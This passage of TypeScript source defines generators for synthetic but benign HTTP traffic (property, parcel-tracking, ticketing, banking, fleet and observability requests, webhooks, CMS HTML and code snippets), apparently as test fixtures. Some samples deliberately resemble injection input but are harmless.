      `/api/listings/search?q=${enc(pick(['3 bed house with garden', 'flat near tube "zone 2"', 'pet friendly -studio', 'new build & parking']))}&min_price=${int(1, 4) * 100000}&max_price=${int(5, 9) * 100000}&sort=-listed_at&page=${int(1, 4)}`,
    ),
  () => get(`/v1/track?number=${tracking()}&lang=${pick(['en', 'de', 'fr'])}`, 'mobile'),
  () =>
    get(
      `/v1/events/search?q=${enc(pick(['taylor swift', 'AC/DC tribute', "Guns N' Roses", 'stand-up comedy & open mic', 'Rammstein (Berlin)']))}&city=${enc(pick(CITIES)[0])}&date_from=${day()}&radius_km=25`,
    ),
  () =>
    get(
      `/open-banking/v3.1/aisp/accounts/${uuid()}/transactions?fromBookingDateTime=${enc(isoDate())}&toBookingDateTime=${enc(isoDate())}`,
      'sdk',
    ),
  () =>
    get(
      `/api/v1/transactions?search=${enc(pick(["McDonald's", 'AMZN Mktp', 'select electricity', 'DD - council tax', 'Union Fees']))}&category=all&limit=50`,
      'mobile',
    ),
  () =>
    get(
      `/api/logs/search?query=${enc(pick(['service:checkout AND status:>=500 AND NOT path:"/healthz"', 'level:ERROR "NullPointerException" -env:staging', 'msg:"DROP TABLE" AND user:dba_*', 'host:web-0? AND (timeout OR "connection reset")']))}&from=now-15m&to=now&limit=500`,
      'browser',
    ),
  () =>
    get(
      `/loki/api/v1/query_range?query=${enc(pick(['{app="nginx"} |= "error" != "favicon" | json | status >= 500', 'sum by (level) (count_over_time({namespace="payments"} | logfmt [5m]))', '{job="varlogs"} |~ "(?i)select .* from users"', '{container="api"} | json | line_format "{{.method}} {{.path}} {{.status}}"']))}&start=${1732800000 + int(0, 9999)}000000000&end=${1732810000 + int(0, 9999)}000000000&limit=1000&direction=backward`,
      'sdk',
    ),
  () =>
    get(
      `/api/v1/query?query=${enc(pick(['histogram_quantile(0.99, sum(rate(http_request_duration_seconds_bucket[5m])) by (le, route))', 'up{job="node"} == 0', 'rate(process_cpu_seconds_total[1m]) * 100 > 80']))}&time=${1732800000 + int(0, 99999)}`,
      'sdk',
    ),
  () =>
    get(
      `/api/v1/vehicles?status=${pick(['moving', 'idle', 'offline'])}&bbox=${enc('-0.51,51.28,0.33,51.69')}&fields=vin,lat,lon,speed_kph,driver&sort=-last_seen`,
    ),
  () =>
    get(
      `/api/envelopes?status=${pick(['sent', 'completed', 'declined'])}&search_text=${enc(pick(['NDA', 'lease agreement 2025', "O'Connor", 'offer letter - final']))}&from_date=${day()}&order_by=last_modified&order=desc`,
    ),
  () =>
    get(
      `/api/contents?type=notebook&q=${enc(pick(['select from', 'pd.merge', 'churn model v2', 'import torch']))}&sort=modified`,
      'browser',
    ),
];

const formGens: Gen[] = [
  () => ({
    method: 'POST',
    path: '/oauth/token',
    headers: headers('sdk', 'application/x-www-form-urlencoded'),
    body: form({
      grant_type: 'authorization_code',
      code: str(32),
      redirect_uri: 'https://app.example.com/callback/bank',
      client_id: `cli_${str(12)}`,
      code_verifier: str(64, ALNUM + '-._~'),
    }),
  }),
  () => ({
    method: 'POST',
    path: `/listings/${int(1e5, 9e5)}/enquiry`,
    headers: headers('browser', 'application/x-www-form-urlencoded'),
    body: form({
      name: name(),
      email: email(),
      phone: '07700 900456',
      message: pick([
        "Hi, is the flat still available? I'm moving from Leeds in Jan & would love a viewing (Sat AM ideally).",
        'Is the service charge really £2,400/yr?? Also - any issues with damp?',
        'We have a small dog (10kg) - would the landlord consider pets? Happy to pay extra deposit.',
      ]),
      consent: 'on',
    }),
  }),
  () => ({
    method: 'POST',
    path: '/redelivery',
    headers: headers('browser', 'application/x-www-form-urlencoded'),
    body: form({
      tracking_number: tracking(),
      postcode: pick(CITIES)[2],
      date: day(),
      safe_place: pick(['Porch', 'Garage', 'With neighbour (No. 12)', 'Other: behind the gate, code 1234#']),
    }),
  }),
  () => ({
    method: 'POST',
    path: '/login',
    headers: headers('browser', 'application/x-www-form-urlencoded'),
    body: form({
      username: email(),
      password: pick(['Tr0ub4dor&3', 'correct horse battery staple', 'P@ssw0rd!2024', "it's-a-secret;)"]),
      remember_me: '1',
      csrf: str(32),
    }),
  }),
  () => ({
    method: 'POST',
    path: '/api/newsletter',
    headers: headers('browser', 'application/x-www-form-urlencoded'),
    body: form({ email: email(), lists: 'gigs-london,early-access', source: 'footer' }),
  }),
  () => ({
    method: 'POST',
    path: '/oauth/token',
    headers: headers('curl', 'application/x-www-form-urlencoded'),
    body: form({
      grant_type: 'client_credentials',
      scope: 'accounts payments fundsconfirmations',
      client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer',
      client_assertion: jwt(),
    }),
  }),
  () => ({
    method: 'POST',
    path: '/support/contact',
    headers: headers('browser', 'application/x-www-form-urlencoded'),
    body: form({
      topic: 'billing',
      order: `ORD-${int(100000, 999999)}`,
      message:
        'I got "Error 502 Bad Gateway" when paying and was charged twice (£48.50 x2). Please refund one; screenshot attached in email.',
    }),
  }),
];

const multipartGens: Gen[] = [
  () => {
    const m = multipart([
      { name: 'envelope_id', value: uuid() },
      {
        name: 'file',
        filename: pick([
          'Lease Agreement - 14 Baker St.pdf',
          'NDA_signed (2).pdf',
          'contract_v7_FINAL_final.pdf',
        ]),
        type: 'application/pdf',
        content: `%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF`,
      },
    ]);
    return {
      method: 'POST',
      path: '/api/v1/documents/upload',
      headers: headers('browser', m.ct),
      body: m.body,
    };
  },
  () => {
    const m = multipart([
      {
        name: 'caption',
        value: pick(['Kitchen (newly fitted 2023)', 'View from the balcony 🌇', 'Garden - south facing']),
      },
      { name: 'order', value: String(int(1, 20)) },
      {
        name: 'photo',
        filename: `IMG_${int(1000, 9999)}.HEIC`,
        type: 'image/heic',
        content: `ftypheic${str(40)}`,
      },
    ]);
    return {
      method: 'POST',
      path: `/api/listings/${int(1e5, 9e5)}/photos`,
      headers: headers('mobile', m.ct),
      body: m.body,
    };
  },
  () => {
    const m = multipart([
      { name: 'account_id', value: uuid() },
      {
        name: 'statement',
        filename: 'statement_Oct2024.csv',
        type: 'text/csv',
        content:
          'Date,Description,Amount,Balance\n01/10/2024,"TESCO STORES 3297",-23.45,1204.11\n02/10/2024,"O\'REILLY MEDIA *SUB",-39.00,1165.11\n03/10/2024,"TFR FROM J SMITH - rent share",450.00,1615.11\n04/10/2024,"DD BRITISH GAS; ACC 88213",-64.20,1550.91\n',
      },
    ]);
    return {
      method: 'POST',
      path: '/api/v1/imports/statements',
      headers: headers('browser', m.ct),
      body: m.body,
    };
  },
  () => {
    const m = multipart([
      { name: 'shipment_id', value: `shp_${str(14)}` },
      { name: 'event', value: 'delivered' },
      { name: 'recipient_name', value: pick(['J. KOWALSKI', 'left in porch', 'Neighbour - no 16']) },
      { name: 'pod', filename: 'pod.jpg', type: 'image/jpeg', content: `JFIF${str(64)}` },
    ]);
    return {
      method: 'POST',
      path: '/v2/driver/proof-of-delivery',
      headers: headers('mobile', m.ct),
      body: m.body,
    };
  },
  () => {
    const m = multipart([
      { name: 'source', value: 'manual-upload' },
      {
        name: 'file',
        filename: 'app-2024-11-28.log',
        type: 'text/plain',
        content:
          '2024-11-28T09:14:02.118Z INFO  [main] Started Application in 4.2 seconds\n2024-11-28T09:15:44.901Z WARN  [pool-3] HikariPool-1 - Connection is not available, request timed out after 30000ms.\n2024-11-28T09:15:45.002Z ERROR [http-nio-8080-exec-7] o.h.engine.jdbc.spi.SqlExceptionHelper : ERROR: relation "order_items" does not exist\n  Position: 15\n',
      },
    ]);
    return { method: 'POST', path: '/api/v1/logs/upload', headers: headers('browser', m.ct), body: m.body };
  },
  () => {
    const m = multipart([
      { name: 'path', value: 'work/imports' },
      {
        name: 'file',
        filename: 'forecast.ipynb',
        type: 'application/x-ipynb+json',
        content: JSON.stringify({
          nbformat: 4,
          nbformat_minor: 5,
          metadata: {},
          cells: [
            {
              cell_type: 'code',
              source: [
                'from prophet import Prophet\n',
                "m = Prophet().fit(df.rename(columns={'date':'ds','sales':'y'}))",
              ],
              metadata: {},
              outputs: [],
              execution_count: 3,
            },
          ],
        }),
      },
    ]);
    return { method: 'POST', path: '/api/upload', headers: headers('browser', m.ct), body: m.body };
  },
  () => {
    const m = multipart([
      { name: 'vehicle_id', value: vin() },
      {
        name: 'inspection',
        value: JSON.stringify({
          tyres: 'ok',
          lights: 'nearside indicator out',
          notes: 'Windscreen chip ~5mm, passenger side',
        }),
      },
      { name: 'photo[]', filename: 'chip.jpg', type: 'image/jpeg', content: `JFIF${str(48)}` },
    ]);
    return { method: 'POST', path: '/api/v1/inspections', headers: headers('mobile', m.ct), body: m.body };
  },
];

const ndjsonGens: Gen[] = [
  () => {
    const lines = Array.from({ length: int(3, 6) }, () =>
      JSON.stringify({
        '@timestamp': isoDate(),
        level: pick(['info', 'warn', 'error']),
        service: pick(['checkout', 'auth', 'search', 'tracking-ingest']),
        msg: pick([
          'GET /api/v1/orders?status=open&page=2 200 34ms',
          'slow query (1843 ms): SELECT o.id, o.total FROM orders o JOIN users u ON u.id = o.user_id WHERE u.email = $1 ORDER BY o.created_at DESC LIMIT 50',
          'upstream connect error or disconnect/reset before headers. reset reason: connection termination',
          'user 4411 updated shipping address',
          'java.lang.IllegalStateException: Cannot call sendError() after the response has been committed\n\tat org.apache.catalina.connector.ResponseFacade.sendError(ResponseFacade.java:472)',
          'retrying job export-csv (attempt 3/5): exit status 1: rm: cannot remove /tmp/export-91.csv: No such file or directory',
        ]),
        trace_id: str(32, HEX),
      }),
    );
    return {
      method: 'POST',
      path: '/api/v1/logs/ingest',
      headers: headers('sdk', 'application/x-ndjson'),
      body: lines.join('\n') + '\n',
    };
  },
  () => {
    const lines: string[] = [];
    for (let i = 0; i < int(2, 4); i++) {
      lines.push(JSON.stringify({ index: { _index: `logs-nginx-${day()}` } }));
      lines.push(
        JSON.stringify({
          remote_addr: `10.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`,
          request: pick([
            'GET /index.html HTTP/1.1',
            'POST /api/cart/items HTTP/2.0',
            'GET /static/js/main.4f2a.js HTTP/2.0',
          ]),
          status: pick([200, 304, 404, 499]),
          body_bytes_sent: int(0, 90000),
          http_user_agent: pick(BROWSER_UA),
        }),
      );
    }
    return {
      method: 'POST',
      path: '/_bulk',
      headers: headers('sdk', 'application/x-ndjson'),
      body: lines.join('\n') + '\n',
    };
  },
  () => {
    const v = vin();
    const lines = Array.from({ length: int(4, 8) }, () =>
      JSON.stringify({
        vin: v,
        ts: isoDate(),
        lat: +(52 + rng()).toFixed(5),
        lon: +(4 + rng()).toFixed(5),
        spd: int(0, 110),
        evt: pick(['position', 'position', 'harsh_brake', 'ignition_off', 'door_open']),
      }),
    );
    return {
      method: 'POST',
      path: '/api/v1/telemetry/stream',
      headers: headers('sdk', 'application/x-ndjson'),
      body: lines.join('\n') + '\n',
    };
  },
  () => {
    const lines = Array.from({ length: int(3, 5) }, () =>
      JSON.stringify({
        tracking_number: tracking(),
        status: pick(['IN_TRANSIT', 'OUT_FOR_DELIVERY', 'DELIVERED', 'EXCEPTION']),
        location: pick(['Heathrow Hub, GB', 'Köln DE', 'DUBLIN DEPOT']),
        description: pick([
          'Arrived at sort facility',
          'Address incomplete – awaiting customer info',
          'Delivered: left at front door',
        ]),
        at: isoDate(),
      }),
    );
    return {
      method: 'POST',
      path: '/v2/carrier/events',
      headers: headers('sdk', 'application/x-ndjson'),
      body: lines.join('\n') + '\n',
    };
  },
  () => {
    const lines = Array.from({ length: int(2, 4) }, () =>
      JSON.stringify({
        stream: 'stderr',
        time: isoDate(),
        log: pick([
          'Traceback (most recent call last):\n  File "/srv/app/worker.py", line 88, in run\n    cur.execute(sql, params)\npsycopg2.errors.UniqueViolation: duplicate key value violates unique constraint "users_email_key"',
          'npm ERR! code ELIFECYCLE\nnpm ERR! errno 1',
          'sh: 1: ./migrate.sh: Permission denied',
          'WARN  exec /bin/sh -c "curl -fsS http://localhost:8080/healthz" exited 7',
        ]),
        kubernetes: { pod: `api-${str(5).toLowerCase()}`, namespace: 'prod' },
      }),
    );
    return {
      method: 'POST',
      path: '/api/v1/logs/ingest',
      headers: headers('sdk', 'application/x-ndjson', { 'user-agent': 'Fluent-Bit/3.1.9' }),
      body: lines.join('\n') + '\n',
    };
  },
];

const webhookGens: Gen[] = [
  () => {
    const body = {
      id: `evt_${str(24)}`,
      object: 'event',
      api_version: '2024-06-20',
      created: 1732800000 + int(0, 99999),
      type: pick(['payment_intent.succeeded', 'charge.refunded', 'checkout.session.completed']),
      livemode: true,
      data: {
        object: {
          id: `pi_${str(24)}`,
          object: 'payment_intent',
          amount: int(1500, 25000),
          currency: 'gbp',
          metadata: { order_id: `ord_${str(12)}`, event: 'Fontaines D.C. – Brixton Academy' },
          receipt_email: email(),
          status: 'succeeded',
        },
      },
      request: { id: `req_${str(14)}`, idempotency_key: uuid() },
    };
    return {
      method: 'POST',
      path: '/webhooks/stripe',
      headers: {
        'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
        'content-type': 'application/json; charset=utf-8',
        accept: '*/*; q=0.5, application/xml',
        'stripe-signature': `t=${1732800000 + int(0, 99999)},v1=${str(64, HEX)}`,
      },
      body: JSON.stringify(body),
    };
  },
  () => {
    const body = {
      event: 'envelope-completed',
      apiVersion: 'v2.1',
      uri: `/restapi/v2.1/accounts/${uuid()}/envelopes/${uuid()}`,
      retryCount: 0,
      configurationId: int(10000000, 99999999),
      generatedDateTime: isoDate(),
      data: {
        accountId: uuid(),
        userId: uuid(),
        envelopeId: uuid(),
        envelopeSummary: {
          status: 'completed',
          emailSubject: 'Please DocuSign: Tenancy Agreement - Flat 2, 9 Elm Rd.pdf',
          sender: { userName: name(), email: email() },
        },
      },
    };
    return {
      method: 'POST',
      path: '/hooks/docusign',
      headers: {
        'user-agent': 'DocuSign Connect',
        'content-type': 'application/json',
        'x-docusign-signature-1': b64(str(32)),
        'x-authorization-digest': 'HMACSHA256',
      },
      body: JSON.stringify(body),
    };
  },
  () => {
    const body = {
      version: '4',
      groupKey: '{}:{alertname="HighErrorRate"}',
      status: pick(['firing', 'resolved']),
      receiver: 'team-payments-pager',
      groupLabels: { alertname: 'HighErrorRate' },
      commonLabels: { alertname: 'HighErrorRate', service: 'checkout', severity: 'critical' },
      commonAnnotations: {
        summary: 'checkout 5xx > 5% (currently 7.3%)',
        description:
          'sum(rate(http_requests_total{status=~"5.."}[5m])) / sum(rate(http_requests_total[5m])) > 0.05',
        runbook_url: 'https://runbooks.example.com/checkout#5xx',
      },
      externalURL: 'http://alertmanager.monitoring.svc:9093',
      alerts: [
        {
          status: 'firing',
          labels: { instance: '10.4.2.17:8080', pod: 'checkout-7d9f8c-x2k4q' },
          startsAt: isoDate(),
          endsAt: '0001-01-01T00:00:00Z',
          generatorURL: 'http://prometheus:9090/graph?g0.expr=rate%28http_requests_total%5B5m%5D%29&g0.tab=1',
        },
      ],
    };
    return {
      method: 'POST',
      path: '/api/v1/integrations/alertmanager',
      headers: { 'user-agent': 'Alertmanager/0.27.0', 'content-type': 'application/json' },
      body: JSON.stringify(body),
    };
  },
  () => {
    const body = {
      id: `trk_${str(20, HEX)}`,
      object: 'Event',
      description: 'tracker.updated',
      mode: 'production',
      result: {
        object: 'Tracker',
        tracking_code: tracking(),
        status: pick(['in_transit', 'out_for_delivery', 'delivered', 'failure']),
        carrier: pick(['UPS', 'DHL', 'RoyalMail']),
        tracking_details: [
          {
            message: 'Departed from facility',
            status: 'in_transit',
            datetime: isoDate(),
            tracking_location: { city: 'EAST MIDLANDS', country: 'GB', zip: 'DE74' },
          },
        ],
        public_url: `https://track.easypost.com/${str(40)}`,
      },
    };
    return {
      method: 'POST',
      path: '/webhooks/easypost',
      headers: {
        'user-agent': 'EasyPost WebHook Agent 1.0',
        'content-type': 'application/json',
        'x-hmac-signature': `hmac-sha256-hex=${str(64, HEX)}`,
      },
      body: JSON.stringify(body),
    };
  },
  () => {
    const body = {
      webhook_type: 'TRANSACTIONS',
      webhook_code: pick(['SYNC_UPDATES_AVAILABLE', 'DEFAULT_UPDATE']),
      item_id: str(37),
      initial_update_complete: true,
      historical_update_complete: chance(0.5),
      environment: 'production',
    };
    return {
      method: 'POST',
      path: '/webhooks/plaid',
      headers: {
        'user-agent': 'Plaid Verifier',
        'content-type': 'application/json',
        'plaid-verification': jwt(),
      },
      body: JSON.stringify(body),
    };
  },
  () => ({
    method: 'POST',
    path: '/webhooks/twilio/sms',
    headers: {
      'user-agent': 'TwilioProxy/1.1',
      'content-type': 'application/x-www-form-urlencoded',
      'x-twilio-signature': b64(str(20)),
    },
    body: form({
      ToCountry: 'GB',
      SmsMessageSid: `SM${str(32, HEX)}`,
      NumMedia: '0',
      Body: pick([
        'STOP',
        'Yes please redeliver tmrw',
        "Can't make 10am, can the driver come after 2?",
        'Wrong address!! its 14B not 14',
      ]),
      From: '+447700900123',
      To: '+447700900999',
      AccountSid: `AC${str(32, HEX)}`,
      ApiVersion: '2010-04-01',
    }),
  }),
  () => {
    const body = {
      eventId: uuid(),
      eventMs: 1732800000000 + int(0, 99999999),
      eventType: pick(['VehicleLocationUpdated', 'HarshEvent', 'EngineFaultOn']),
      orgId: int(1000, 9999),
      webhookId: String(int(1e6, 9e6)),
      data: {
        vehicle: { id: String(int(1e12, 9e12)), name: 'Van 14 - Sprinter', vin: vin() },
        location: {
          latitude: 53.48,
          longitude: -2.24,
          reverseGeo: { formattedLocation: 'Deansgate, Manchester, M3 4LZ' },
        },
        fault: { code: 'P0299', description: 'Turbocharger/Supercharger "A" Underboost' },
      },
    };
    return {
      method: 'POST',
      path: '/webhooks/samsara',
      headers: {
        'user-agent': 'Samsara-Webhooks/1.0',
        'content-type': 'application/json',
        'x-samsara-signature': `v1=${str(64, HEX)}`,
        'x-samsara-timestamp': String(1732800000 + int(0, 9999)),
      },
      body: JSON.stringify(body),
    };
  },
  () => {
    const body = {
      ref: 'refs/heads/main',
      repository: { full_name: 'acme/dashboards', html_url: 'https://github.com/acme/dashboards' },
      pusher: { name: 'sre-bot' },
      head_commit: {
        id: str(40, HEX),
        message: 'fix(panels): use rate() not irate() for 5xx panel\n\nirate was too spiky; see INC-1182',
        modified: ['dashboards/checkout.json'],
      },
    };
    return {
      method: 'POST',
      path: '/api/v1/integrations/github',
      headers: {
        'user-agent': `GitHub-Hookshot/${str(7, HEX)}`,
        'content-type': 'application/json',
        'x-github-event': 'push',
        'x-github-delivery': uuid(),
        'x-hub-signature-256': `sha256=${str(64, HEX)}`,
      },
      body: JSON.stringify(body),
    };
  },
];

const cmsHtmlGens: Gen[] = [
  () =>
    json(
      'PUT',
      `/api/listings/${int(1e5, 9e5)}/description`,
      {
        listing: {
          description_html: `<p><strong>${pick(['Stunning', 'Spacious', 'Charming'])} ${int(1, 4)}-bedroom ${pick(['flat', 'cottage', 'townhouse'])}</strong> moments from the station.</p><ul><li>Open-plan kitchen/diner</li><li>South-facing garden (approx. 60&nbsp;ft)</li><li>Off-street parking &amp; EV charger</li></ul><p>Council tax band: D &ndash; EPC: C (72)</p><p><a href="https://my.matterport.com/show/?m=${str(11)}" target="_blank" rel="noopener noreferrer">Take the 3D tour</a></p>`,
        },
      },
      'browser',
    ),
  () =>
    json(
      'PUT',
      `/api/listings/${int(1e5, 9e5)}/description`,
      {
        listing: {
          description_html: `<h2>About the property</h2><p style="text-align: justify;">Ce bel appartement haussmannien de 85&nbsp;m² offre parquet, moulures et cheminées d&#39;époque.</p><p><img src="https://cdn.example.com/listings/${str(10)}/floorplan.png" alt="Floor plan" width="600" height="400" /></p><iframe src="https://www.youtube.com/embed/${str(11)}" width="560" height="315" frameborder="0" allow="accelerometer; autoplay; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe>`,
        },
      },
      'browser',
    ),
  () =>
    json(
      'PATCH',
      `/v1/events/evt_${str(12)}`,
      {
        event: {
          description_html: `<p>Doors <b>7pm</b> / Stage <b>8:30pm</b>. Strictly <u>18+</u> &mdash; ID required.</p><blockquote><p>&ldquo;The best live band in Europe right now&rdquo; &ndash; <em>NME</em></p></blockquote><p><a href="https://open.spotify.com/artist/${str(22)}">Listen on Spotify</a> | <a href="mailto:access@venue.example.com?subject=Access%20request">Access requests</a></p><table border="1"><tr><th>Tier</th><th>Price</th></tr><tr><td>GA</td><td>&pound;${int(20, 60)}.00</td></tr></table>`,
        },
      },
      'browser',
      'application/merge-patch+json',
    ),
  () =>
    json(
      'PUT',
      `/api/v1/templates/${uuid()}`,
      {
        template: {
          name: 'Signing request – default',
          subject: 'Please sign: {{document.name}}',
          html: `<div style="font-family: Arial, sans-serif; color:#333"><p>Hi {{recipient.first_name}},</p><p>{{sender.name}} has sent you <strong>{{document.name}}</strong> to review and sign.</p><p style="margin:24px 0"><a href="{{signing_url}}" style="background:#0052cc;color:#fff;padding:12px 20px;border-radius:4px;text-decoration:none">Review &amp; sign</a></p><p style="font-size:12px;color:#888">This link expires on {{expires_at | date: "%d %b %Y"}}. Do not forward this email.</p></div>`,
        },
      },
      'browser',
    ),
  () =>
    json(
      'POST',
      `/api/v1/notices/${int(100, 999)}`,
      {
        notice: {
          title: 'Christmas delivery cut-off dates',
          body_html: `<p>Order by <strong>18 Dec</strong> for standard UK delivery.</p><ol><li>Express: 21 Dec</li><li>Next day 10:30: 22 Dec (mainland only*)</li></ol><p><small>*Excludes Highlands &amp; Islands, BT postcodes.</small></p><p><span style="color: rgb(230, 0, 0);">No collections 25&ndash;26 Dec.</span></p>`,
        },
      },
      'browser',
    ),
  () =>
    json(
      'POST',
      '/api/v1/fleet/announcements',
      {
        announcement: {
          audience: pick(['all_drivers', 'depot:park-royal', 'depot:trafford', 'night_shift']),
          html: `<p>Hi team 👋</p><p>From <b>Monday</b> the Park Royal depot gate code changes to the one in your app. Please <i>do not</i> write it on the van.</p><p>Reminder: walkaround check <u>before</u> every shift &mdash; <a href="https://fleet.example.com/help/walkaround">how-to video</a>.</p><pre>Tyre pressure (Sprinter): 3.8 bar front / 4.5 bar rear</pre>`,
        },
      },
      'browser',
    ),
  () =>
    json(
      'PUT',
      `/api/v1/help/articles/${int(10, 999)}`,
      {
        article: {
          body_html: `<h3>Connecting your bank</h3><p>We use <abbr title="Open Banking">OB</abbr> APIs, so we never see your password.</p><figure><img src="/static/help/consent-screen.png" alt="Consent screen"><figcaption>Step 2: approve access in your bank app</figcaption></figure><p>If you see <code>consent_expired</code>, reconnect via <em>Settings &rarr; Accounts</em>.</p>`,
        },
      },
      'browser',
    ),
];

const codeGens: Gen[] = [
  () =>
    json(
      'PUT',
      `/api/notebooks/${uuid()}/cells/${uuid()}`,
      {
        cell: {
          cell_type: 'code',
          source: pick([
            "import pandas as pd\nimport numpy as np\n\ndf = pd.read_csv('s3://analytics/trips/2024-11/*.csv')\ndf = df[df['idle_min'] > 0]\ndf.groupby('vin')['idle_min'].agg(['mean', 'sum']).sort_values('sum', ascending=False).head(20)",
            "%%sql\nSELECT date_trunc('week', created_at) AS wk, count(*) AS orders, sum(total) AS gmv\nFROM orders\nWHERE status <> 'cancelled' AND created_at >= now() - interval '90 days'\nGROUP BY 1 ORDER BY 1;",
            '!pip install -q lightgbm==4.5.0 shap\n!ls -la /home/jovyan/data | head',
            '%%bash\nset -euo pipefail\nfor f in data/raw/*.json.gz; do\n  zcat "$f" | jq -c \'select(.event == "purchase")\' >> data/purchases.ndjson\ndone\nwc -l data/purchases.ndjson',
            "import os, subprocess\nout = subprocess.run(['git', 'log', '--oneline', '-5'], capture_output=True, text=True)\nprint(out.stdout)\nprint(os.environ.get('MLFLOW_TRACKING_URI'))",
            'from sklearn.model_selection import train_test_split\nX_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, random_state=42)\nmodel.fit(X_train, y_train)\nprint(f"AUC: {roc_auc_score(y_test, model.predict_proba(X_test)[:, 1]):.3f}")',
          ]),
          metadata: { tags: [] },
        },
      },
      'browser',
    ),
  () =>
    json(
      'POST',
      '/api/v1/snippets',
      {
        snippet: {
          title: pick(['Reset stuck shipments', 'Parse nginx log', 'Dedupe payees']),
          language: pick(['sql', 'python', 'bash', 'javascript']),
          source: pick([
            "UPDATE shipments SET status = 'PENDING_PICKUP'\nWHERE status = 'LABEL_CREATED' AND created_at < NOW() - INTERVAL '2 days'\nRETURNING id, reference;",
            "import re\nLINE = re.compile(r'(?P<ip>\\S+) \\S+ \\S+ \\[(?P<ts>[^\\]]+)\\] \"(?P<req>[^\"]*)\" (?P<status>\\d{3}) (?P<size>\\d+|-)')\nfor l in open('/var/log/nginx/access.log'):\n    m = LINE.match(l)\n    if m and m['status'].startswith('5'):\n        print(m.groupdict())",
            "#!/usr/bin/env bash\n# rotate and ship logs\nfind /var/log/app -name '*.log' -mtime +7 -exec gzip {} \\;\naws s3 sync /var/log/app s3://acme-logs/$(hostname)/ --exclude '*' --include '*.gz'",
            "const payees = await db.query('SELECT id, name, sort_code FROM payees WHERE user_id = $1', [userId]);\nconst seen = new Map();\nfor (const p of payees.rows) { const k = `${p.sort_code}:${p.name.toLowerCase()}`; if (seen.has(k)) await db.query('DELETE FROM payees WHERE id = $1', [p.id]); else seen.set(k, p.id); }",
          ]),
        },
      },
      'browser',
    ),
  () =>
    json(
      'POST',
      '/api/v2/alert-rules',
      {
        rule: {
          name: pick(['DiskWillFillIn4h', 'HighErrorRate', 'TelematicsGap', 'NoLogsFromIngest']),
          expr: pick([
            'predict_linear(node_filesystem_avail_bytes{fstype!~"tmpfs|overlay"}[6h], 4*3600) < 0',
            'sum(rate(http_requests_total{job="checkout",code=~"5.."}[5m])) / sum(rate(http_requests_total{job="checkout"}[5m])) > 0.05',
            'sum by (namespace) (count_over_time({namespace=~"prod-.*"} |= "level=error" [5m])) > 100',
            'absent_over_time(telematics_points_received_total{region="eu-west-1"}[15m]) == 1',
          ]),
          for: '10m',
          labels: { severity: 'warning' },
          annotations: { summary: '{{ $labels.instance }} – {{ $value | humanize }}' },
        },
      },
      'browser',
    ),
  () =>
    json(
      'POST',
      '/api/v1/saved-queries',
      {
        query: {
          name: pick(['Late deliveries by depot', 'Top merchants Q4', 'Envelopes stuck in sent']),
          dialect: 'postgres',
          text: pick([
            "SELECT d.name, count(*) FILTER (WHERE s.delivered_at > s.promised_by) AS late, count(*) AS total\nFROM shipments s JOIN depots d ON d.id = s.depot_id\nWHERE s.delivered_at >= '2024-10-01'\nGROUP BY d.name\nHAVING count(*) > 100\nORDER BY late::float / count(*) DESC;",
            "WITH t AS (\n  SELECT merchant, sum(-amount) AS spent FROM transactions WHERE amount < 0 AND booked_at BETWEEN '2024-10-01' AND '2024-12-31' GROUP BY 1\n)\nSELECT * FROM t ORDER BY spent DESC LIMIT 25; -- excludes transfers",
            "select e.id, e.subject, e.sent_at from envelopes e where e.status = 'sent' and e.sent_at < now() - interval '14 days' and not exists (select 1 from reminders r where r.envelope_id = e.id) order by e.sent_at;",
          ]),
        },
      },
      'browser',
    ),
  () =>
    json(
      'PUT',
      `/api/v1/pipelines/${uuid()}`,
      {
        pipeline: {
          name: 'k8s-logs',
          config: pick([
            '[sources.k8s]\ntype = "kubernetes_logs"\n\n[transforms.parse]\ntype = "remap"\ninputs = ["k8s"]\nsource = \'\'\'\n. = parse_json!(.message) ?? .\n.level = downcase(string!(.level))\ndel(.password)\n\'\'\'\n\n[sinks.out]\ntype = "http"\ninputs = ["parse"]\nuri = "https://logs.example.com/api/v1/logs/ingest"\n',
            '[INPUT]\n    Name              tail\n    Path              /var/log/containers/*.log\n    Parser            docker\n    Tag               kube.*\n\n[FILTER]\n    Name    grep\n    Match   *\n    Exclude log ^GET /healthz\n\n[OUTPUT]\n    Name  http\n    Match *\n    Host  logs.example.com\n    Port  443\n    URI   /api/v1/logs/ingest\n    tls   On\n',
            "receivers:\n  filelog:\n    include: [ /var/log/app/*.log ]\n    operators:\n      - type: regex_parser\n        regex: '^(?P<time>\\S+) (?P<sev>[A-Z]+) (?P<msg>.*)$'\nexporters:\n  otlphttp:\n    endpoint: https://otel.example.com:4318\n",
          ]),
        },
      },
      'sdk',
    ),
];

const proseTexts = [
  "Driver marked it as 'delivered' at 14:02 but nothing's here. Checked with neighbours & the bins. Tracking says 'left in safe place' - we don't have one?!",
  'Parcel arrived soaked 😤 the box said "keep dry" on it. Can I get a refund or do I need to send photos first?',
  'The agent was great — honest about the noise from the bar downstairs. Only 4 stars because the viewing started 25 min late.',
  "Avoid. Deposit still not returned after 3 months; they keep saying the 'system' is down. #scam",
  'Quick q: does the 3rd bedroom fit a double bed? The floorplan says 2.4m x 2.1m which seems small.',
  "Sound was awful in the balcony (row K), couldn't hear the vocals at all. Band were brilliant though <3",
  'Bought 2 tickets, got charged 3 times?? Order ref TX-88123. Your app showed "Error: select a seat first" even though I had.',
  'Is there a cloakroom? And can I bring a small bag (A4 size) or is it clear-bag only like last year?',
  'Why does my balance show -£0.01 when I paid the card off in full? Feels like a rounding bug somewhere.',
  'Can we split the rent payment into 2 transfers (1st & 15th)? My employer pays bi-weekly.',
  'Signed the wrong page by mistake, can you void & resend? Sorry!! The file is "lease_v2 (1).pdf".',
  'Reminder emails keep going to spam for people using @outlook.com addresses, FYI.',
  "Van 7 keeps reporting 0 km/h while on the M6 – GPS antenna loose? Telematics shows 'NO FIX' from 09:12 to 10:40.",
  'Harsh braking alert was a false positive - a kid ran out on Church Rd. Please exclude from the score.',
  'Root cause: the log shipper pod was OOMKilled (limit 256Mi); backlog of ~2M lines; we dropped logs between 02:10-02:45 UTC. Follow-up: raise limit, add alert on `fluentbit_output_dropped_records_total`.',
